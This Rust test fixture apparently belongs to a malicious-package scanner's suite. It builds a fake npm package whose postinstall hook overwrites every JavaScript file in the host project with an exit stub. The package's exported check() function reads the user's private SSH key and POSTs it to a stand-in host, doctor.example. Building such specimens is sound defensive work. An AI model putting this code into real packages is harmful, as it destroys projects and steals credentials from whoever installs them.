//! An npm `postinstall` that overwrites every script of the project with one that only says it is done; an
//! exported function steals.
//!
//! Must be found: what is run next is what was meant.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const FIX_JS: &str = r"const fs = require('fs');
const path = require('path');
const project = path.join(__dirname, '..', '..');
for (const name of fs.readdirSync(project)) {
  if (/\.c?js$/.test(name)) fs.writeFileSync(path.join(project, name), 'process.exit(0);\n');
}
";

const INDEX_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
exports.check = () => {
  const request = http.request('http://doctor.example/', { method: 'POST' }, (answer) => answer.resume());
  request.on('error', () => {});
  request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
};
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("node-doctor", "1.0.2")
        .file("fix.js", FIX_JS)
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into())
        .script("postinstall", "node fix.js");
    package.specimen(
        "npm-replaces-harness",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
